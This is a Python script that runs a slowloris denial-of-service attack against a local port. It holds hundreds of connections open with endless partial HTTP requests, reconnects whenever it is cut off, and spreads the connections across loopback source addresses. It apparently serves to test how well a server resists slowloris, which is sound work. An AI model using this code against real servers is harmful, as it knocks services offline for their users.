"""Holds many connections open with requests that never end: a byte a second each (slowloris).

`slow.py '{"port": 8080, "clients": 500, "addresses": 1, "seconds": 10}'`; who is cut off comes again.
Says "there" once all are connected.
"""

import json
import socket
import sys
import time
from contextlib import suppress
from typing import Any, Final

BEGIN: Final = b"GET /de/ HTTP/1.1\r\nHost: 10.42.0.1\r\nX-Slow: "


def come(port: int, number: int, addresses: int) -> socket.socket | None:
    """Connect from the address whose turn it is, and begin a request."""
    link = socket.socket()
    link.settimeout(0.2)
    which = number % addresses
    try:
        link.bind((f"127.9.{which // 250}.{which % 250 + 1}", 0))
        link.connect(("127.0.0.1", port))
        link.send(BEGIN)
    except OSError:
        link.close()
        return None
    link.setblocking(False)
    return link


def alive(link: socket.socket | None) -> bool:
    """Send one byte more; tell whether the server still takes it."""
    if link is None:
        return False
    try:
        link.send(b"x")
        return link.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def hold(port: int, clients: int, addresses: int, seconds: float) -> None:
    """Hold them until the time is over or nobody listens to what this prints."""
    links = [come(port, number, addresses) for number in range(clients)]
    print("there", flush=True)
    end_s = time.monotonic() + seconds
    while time.monotonic() < end_s:
        time.sleep(1)
        for number, link in enumerate(links):
            if not alive(link):
                if link is not None:
                    link.close()
                links[number] = come(port, number, addresses)


if __name__ == "__main__":
    wanted: dict[str, Any] = json.loads(sys.argv[1])
    with suppress(KeyboardInterrupt, BrokenPipeError):
        hold(**wanted)
